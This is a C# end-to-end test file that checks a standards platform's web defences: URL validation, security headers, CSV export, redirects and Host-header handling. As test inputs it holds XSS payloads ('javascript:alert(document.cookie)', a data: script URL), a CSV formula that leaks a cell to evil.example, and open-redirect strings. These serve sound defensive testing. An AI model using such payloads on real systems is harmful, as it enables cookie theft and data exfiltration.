using System.Net;
using System.Text.Json.Nodes;
using Alliance.Testing;
using Npgsql;
using Xunit;

namespace Alliance.EndToEnd.Tests;

/// <summary>
/// Issue 16 (items 3, 9, 12) through the gateway against the real processes: member links, the Portal's and the
/// APIs' response headers, paging bounds, CSV cells, the language switch, discovery and Host headers, exports.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class WebSecurityTests(PlatformFixture platform)
{
    private HttpClient Sec => platform.Secretariat;

    /// <summary>A standard with version 1.0 (R1 MUST) ratified in historical mode: no ballot needed to certify against it.</summary>
    private async Task<string> Standard()
    {
        var code = CompatibilityFlowTests.NewCode();
        var committee = (Guid)(await (await Sec.Post("/api/committees", new { name = $"Web Security {code}", purpose = "standards", defaultProfile = "two-thirds-of-cast" })).Read())["committeeId"]!;
        (await Sec.Post("/api/standards", new { code, title = "Web Security Standard", committeeId = committee, validity = new { kind = "none" } })).EnsureSuccessStatusCode();
        (await Sec.Post($"/api/standards/{code}/versions", new { version = "1.0", requirements = new[] { new { id = "R1", level = "MUST", text = "Passes" } } })).EnsureSuccessStatusCode();
        (await Sec.Post($"/api/standards/{code}/versions/1.0/historical-ratification", new { effectiveAt = DateTimeOffset.UtcNow.AddDays(-10), source = "web-security-test" })).EnsureSuccessStatusCode();
        return code;
    }

    private async Task<(Guid Vendor, Guid Product)> Product(string name, string? website = null)
    {
        var vendor = await platform.Member($"Web Vendor {Guid.NewGuid():N}");
        using var registered = await Sec.Post("/api/products", new { vendorId = vendor.MemberId, name, type = "server", website });
        Assert.Equal(HttpStatusCode.Created, registered.StatusCode);
        return (vendor.MemberId, (Guid)(await registered.Read())["productId"]!);
    }

    private static object Submission(Guid product, string code, string? evidenceUrl) => new
    {
        productId = product,
        productVersion = "1.0",
        standard = code,
        version = "1.0",
        // Historical submissions are checked as of their date: the vendor was admitted moments ago, not yesterday.
        effectiveAt = DateTimeOffset.UtcNow,
        source = $"web-security-{Guid.NewGuid():N}",
        results = new[] { new { requirementId = "R1", outcome = "pass", evidenceUrl } },
    };

    private async Task<Guid> Certified(Guid product, string code, string evidenceUrl = "https://ci.example.org/run/1")
    {
        using var submitted = await Sec.Post("/api/certifications", Submission(product, code, evidenceUrl));
        Assert.Equal(HttpStatusCode.Created, submitted.StatusCode);
        var id = (Guid)(await submitted.Read())["certificationId"]!;
        (await Sec.Post($"/api/certifications/{id}/grant", new { effectiveAt = DateTimeOffset.UtcNow, source = "web-security-test" })).EnsureSuccessStatusCode();
        return id;
    }

    [Fact]
    public async Task A_javascript_evidence_url_is_refused_with_400_naming_the_field_and_records_nothing()
    {
        var code = await Standard();
        var (_, product) = await Product("Evidence Server");

        foreach (var hostile in new[] { "javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "//evil.example/run" })
        {
            using var refused = await Sec.Post("/api/certifications", Submission(product, code, hostile));
            Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
            Assert.Equal("application/problem+json", refused.Content.Headers.ContentType!.MediaType);
            Assert.NotNull((await refused.Read())["errors"]!["results[0].evidenceUrl"]);
        }
        Assert.Empty((await Sec.GetNode($"/api/certifications?product={product}")).AsArray());
        using var website = await Sec.Post("/api/products", new { vendorId = Guid.NewGuid(), name = "X", type = "server", website = "javascript:alert(1)" });
        Assert.NotNull((await website.Read())["errors"]!["website"]);
    }

    [Fact]
    public async Task The_portal_sends_the_content_security_policy_and_the_other_security_headers()
    {
        using var root = await platform.Http.GetAsync("/");

        Assert.Equal(HttpStatusCode.OK, root.StatusCode);
        Assert.Equal("default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'",
            Assert.Single(root.Headers.GetValues("Content-Security-Policy")));
        Assert.Equal("nosniff", Assert.Single(root.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("strict-origin-when-cross-origin", Assert.Single(root.Headers.GetValues("Referrer-Policy")));
        Assert.False(root.Headers.Contains("Strict-Transport-Security")); // plain http: a browser would ignore it anyway
        // Behind a TLS-terminating proxy (X-Forwarded-Proto from a trusted address) the Portal adds HSTS.
        using var request = new HttpRequestMessage(HttpMethod.Get, $"{platform.Portal.Url}/standards") { Headers = { { "X-Forwarded-Proto", "https" } } };
        using var overTls = await platform.Direct.SendAsync(request);
        Assert.StartsWith("max-age=", Assert.Single(overTls.Headers.GetValues("Strict-Transport-Security")));
        // The one script is a file the policy allows ('self'), sent as script and never sniffed as anything else.
        using var script = await platform.Http.GetAsync("/js/copy-snippet.js");
        Assert.Equal(HttpStatusCode.OK, script.StatusCode);
        Assert.Equal("text/javascript", script.Content.Headers.ContentType!.MediaType);
        Assert.Equal("nosniff", Assert.Single(script.Headers.GetValues("X-Content-Type-Options")));
    }

    [Fact]
    public async Task No_portal_page_carries_inline_script_or_event_handlers()
    {
        var code = await Standard();
        var (_, product) = await Product($"Inline Check {Guid.NewGuid():N}", "https://www.example.org");
        await Certified(product, code);
        foreach (var path in new[] { "/", "/standards", $"/standards/{code}", "/decisions", "/open-source", $"/products/{product}", "/signin" })
        {
            var html = await platform.Http.GetStringAsync(path);
            Assert.DoesNotMatch(@"<script(?![^>]*\bsrc=)[^>]*>", html);
            Assert.DoesNotMatch(@"\son[a-z]+\s*=", html);
            Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task A_stored_javascript_link_from_before_the_rule_is_shown_as_text_not_as_a_link()
    {
        var code = await Standard();
        var name = $"Legacy Links {Guid.NewGuid():N}";
        var (_, product) = await Product(name, "https://www.example.org");
        var certification = await Certified(product, code);
        // Data recorded before the services refused such links: the stored event and the product row hold javascript: URLs.
        await using (var db = new NpgsqlConnection(platform.Servers.ConnectionString("compatibility")))
        {
            await db.OpenAsync();
            await using (var events = new NpgsqlCommand("""
                update mt_events set data = replace(data::text, 'https://ci.example.org/run/1', 'javascript:alert(document.cookie)')::jsonb
                where stream_id = $1 and type = 'certification_submitted'
                """, db) { Parameters = { new() { Value = certification } } })
                Assert.Equal(1, await events.ExecuteNonQueryAsync());
            await using var row = new NpgsqlCommand("update products set website = 'javascript:alert(1)' where product_id = $1", db) { Parameters = { new() { Value = product } } };
            Assert.Equal(1, await row.ExecuteNonQueryAsync());
        }

        var html = await platform.Http.GetStringAsync($"/products/{product}");

        Assert.Contains(name, html);
        Assert.DoesNotContain("href=\"javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<span class=\"unlinked\">javascript:alert(1)</span>", html);
        Assert.Contains("<span class=\"unlinked\">javascript:alert(document.cookie)</span>", html);
    }

    [Fact]
    public async Task The_apis_send_nosniff_and_a_cache_control_suited_to_each_answer()
    {
        using var publicRead = await platform.Http.GetAsync("/api/matrix?pageSize=1");
        using var plainRead = await platform.Http.GetAsync("/api/standards");
        using var authenticated = await Sec.GetAsync("/api/members?pageSize=1");
        using var write = await platform.Http.Post("/api/members/applications", new { name = "Cache Test", kind = "company", country = "DE", contactEmail = "office@cache.example.de" });
        using var error = await platform.Http.GetAsync("/api/members?page=0");
        // The gateway's own answers: an unknown API path and its list of audited services.
        using var unknown = await platform.Http.GetAsync("/api/no-such-resource");
        using var audit = await platform.Http.GetAsync("/api/audit");

        Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
        foreach (var response in new[] { publicRead, plainRead, authenticated, write, error, unknown, audit })
            Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("public, max-age=10", publicRead.Headers.CacheControl!.ToString());
        Assert.True(plainRead.Headers.CacheControl!.NoCache);
        Assert.True(authenticated.Headers.CacheControl!.NoStore);
        Assert.True(write.Headers.CacheControl!.NoStore);
        Assert.True(error.Headers.CacheControl!.NoStore);
    }

    public static readonly TheoryData<string> Lists =
    [
        "/api/members", "/api/projects", "/api/committees", "/api/oss-projects", "/api/licence-exceptions", "/api/contributor-agreements",
        "/api/electorate", "/api/ballots", "/api/decisions", "/api/vendors", "/api/matrix",
    ];

    [Theory]
    [MemberData(nameof(Lists))]
    public async Task Paging_out_of_range_or_of_the_wrong_type_is_a_400_naming_the_field(string list)
    {
        foreach (var (query, field) in new[] { ("page=2147483647", "page"), ("page=0", "page"), ("page=abc", "page"), ("page=99999999999", "page"), ("pageSize=0", "pageSize"), ("pageSize=201", "pageSize") })
        {
            using var response = await Sec.GetAsync($"{list}?{query}");
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{list}?{query} answered {(int)response.StatusCode}");
            Assert.NotNull((await response.Read())["errors"]![field]);
        }
        using var last = await Sec.GetAsync($"{list}?page=1000000&pageSize=200");
        Assert.Equal(HttpStatusCode.OK, last.StatusCode);
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised()
    {
        var code = await Standard();
        var formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
        var (_, product) = await Product(formula);
        await Certified(product, code);
        var (_, second) = await Product("@SUM(1+1)");
        await Certified(second, code);

        var csv = await platform.Http.GetStringAsync($"/api/matrix.csv?standard={code}");

        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"", csv);
        Assert.Contains(",'@SUM(1+1),", csv);
        Assert.DoesNotContain(",=", csv);
        Assert.DoesNotContain(",@", csv);
    }

    [Theory]
    [InlineData("/\\evil.example", "/")]
    [InlineData("//evil.example", "/")]
    [InlineData("https://evil.example/", "/")]
    [InlineData("/\t/evil.example", "/")]
    [InlineData("/standards?x=1", "/standards?x=1")]
    public async Task The_language_switch_returns_only_to_a_local_path(string returnUrl, string expected)
    {
        using var http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = new Uri(platform.Gateway.Url) };

        using var response = await http.GetAsync($"/language/zh?returnUrl={Uri.EscapeDataString(returnUrl)}");

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal(expected, response.Headers.Location!.OriginalString);
    }

    [Fact]
    public async Task Discovery_advertises_only_what_the_issuer_implements_at_its_configured_address()
    {
        var discovery = (JsonObject)await platform.Http.GetNode("/.well-known/openid-configuration");

        Assert.Equal(["issuer", "jwks_uri", "token_endpoint", "grant_types_supported", "token_endpoint_auth_methods_supported", "claims_supported"],
            discovery.Select(p => p.Key));
        Assert.Equal($"{platform.Gateway.Url}/.well-known/jwks", (string)discovery["jwks_uri"]!);
        Assert.Equal(["client_credentials"], discovery["grant_types_supported"]!.AsArray().Select(x => (string)x!));
    }

    [Fact]
    public async Task A_forged_host_header_never_reaches_a_link_the_platform_hands_out()
    {
        foreach (var path in new[] { "/.well-known/openid-configuration", "/api/decisions.atom", "/" })
        {
            using var forged = new HttpRequestMessage(HttpMethod.Get, path);
            forged.Headers.Host = "evil.example";
            using var response = await platform.Http.SendAsync(forged);
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode); // AllowedHosts: the gateway serves only its configured names
        }
        using var spoofed = new HttpRequestMessage(HttpMethod.Get, "/api/decisions.atom") { Headers = { { "X-Forwarded-Host", "evil.example" } } };
        var atom = await (await platform.Http.SendAsync(spoofed)).Content.ReadAsStringAsync();
        Assert.Contains($"href=\"{platform.Gateway.Url}/api/decisions.atom\"", atom);
        // The Portal's badge snippet names the configured address, whatever Host the Portal was reached by.
        var code = await Standard();
        var (_, product) = await Product($"Snippet Host {Guid.NewGuid():N}");
        await Certified(product, code);
        using var direct = new HttpRequestMessage(HttpMethod.Get, $"{platform.Portal.Url}/products/{product}");
        direct.Headers.Host = "localhost";
        var html = await (await platform.Direct.SendAsync(direct)).Content.ReadAsStringAsync();
        Assert.Contains(System.Net.WebUtility.HtmlEncode($"<a href=\"{platform.Gateway.Url}/products/{product}\">"), html);
    }

    [Fact]
    public async Task Exports_are_kept_per_query_and_last_event_and_a_new_event_makes_a_new_one()
    {
        var code = await Standard();
        var (_, product) = await Product($"Export Cache {Guid.NewGuid():N}");
        await Certified(product, code);
        var url = $"/api/matrix.json?standard={code}&asOf={Uri.EscapeDataString(DateTimeOffset.UtcNow.ToString("O"))}";

        using var first = await platform.Http.GetAsync(url);
        using var second = await platform.Http.GetAsync(url);
        var etag = first.Headers.ETag!;
        using var conditional = new HttpRequestMessage(HttpMethod.Get, url) { Headers = { IfNoneMatch = { etag } } };
        using var notModified = await platform.Http.SendAsync(conditional);
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        Assert.Equal(etag, second.Headers.ETag);
        Assert.Equal(await first.Content.ReadAsStringAsync(), await second.Content.ReadAsStringAsync());
        Assert.Equal(1, (int)JsonNode.Parse(await first.Content.ReadAsStringAsync())!["total"]!);
        Assert.Equal(HttpStatusCode.NotModified, notModified.StatusCode);

        await Product($"Another Event {Guid.NewGuid():N}"); // any event of Compatibility: the kept export is no longer the answer
        using var third = await platform.Http.GetAsync(url);
        Assert.NotEqual(etag, third.Headers.ETag);
        var csv = await platform.Http.GetAsync($"/api/matrix.csv?standard={code}");
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.StartsWith("attachment; filename=\"matrix-", csv.Content.Headers.ContentDisposition!.ToString());
    }

    [Fact]
    public async Task Anonymous_replays_are_rate_limited_and_authenticated_ones_are_not()
    {
        var standard = CompatibilityFlowTests.NewCode();
        var statuses = new List<HttpStatusCode>();
        for (var i = 0; i < 31; i++)
        {
            // A distinct instant each time: the output cache would otherwise answer the repeats.
            using var response = await platform.Http.GetAsync($"/api/matrix/check?product={Guid.NewGuid()}&standard={standard}&replay=true");
            statuses.Add(response.StatusCode);
            if (response.StatusCode == HttpStatusCode.TooManyRequests)
            {
                Assert.True(response.Headers.RetryAfter!.Delta > TimeSpan.Zero);
                break;
            }
        }
        Assert.Equal(HttpStatusCode.TooManyRequests, statuses[^1]);
        using var indexed = await platform.Http.GetAsync($"/api/matrix/check?product={Guid.NewGuid()}&standard={standard}");
        using var authenticated = await Sec.GetAsync($"/api/matrix/check?product={Guid.NewGuid()}&standard={standard}&replay=true");
        Assert.Equal(HttpStatusCode.OK, indexed.StatusCode);
        Assert.Equal(HttpStatusCode.OK, authenticated.StatusCode);
    }
}
